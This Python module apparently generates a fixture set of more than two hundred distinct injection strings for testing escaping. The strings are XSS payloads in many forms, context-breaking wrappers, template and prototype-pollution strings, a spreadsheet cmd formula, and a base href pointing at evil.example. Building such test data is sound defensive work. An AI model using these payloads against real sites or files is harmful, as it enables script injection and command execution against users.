"""Names as nobody would give them, more than two hundred, all different."""

from __future__ import annotations

CALL = "window.pwned=1"
BASES = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<details open ontoggle={CALL}>",
    f"<a href=javascript:{CALL} autofocus onfocus={CALL}>x</a>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<style>@import 'x'</style><b style=background:url(javascript:{CALL})>",
    f"<template><script>{CALL}</script></template><base href=//evil.example>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<object data=javascript:{CALL}></object><embed src=javascript:{CALL}>",
    f"<form action=javascript:{CALL}><input autofocus onfocus={CALL}></form>",
    f"<video><source onerror={CALL}></video><audio src=x onerror={CALL}>",
    f"javascript:{CALL}",
    f"${{{CALL}}}",
    f"{{{{ {CALL} }}}}{{% raw %}}",
    f"';{CALL};'",
    f'";{CALL};"',
    f"`;{CALL};`",
    f"\\u003cscript>{CALL}\\u003c/script>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"__proto__ {CALL}",
    f"=cmd|'/c {CALL}'!A0",
    f"\u202e<script>{CALL}</script>\u2066",
    f"\x00<script>{CALL}</script>\x1b[2J\x07",
)
WRAPPERS = (
    "{}", '">{}', "'>{}", "-->{}<!--", "]]>{}<![CDATA[", "</title></style></textarea>{}",
    "</svg></text></figcaption>{}", "\u2028*/{}//\n", "x' onmouseover='{}",
)  # fmt: skip

STRINGS = tuple(wrapper.format(base) for base in BASES for wrapper in WRAPPERS)
assert len(set(STRINGS)) == len(STRINGS) >= 200
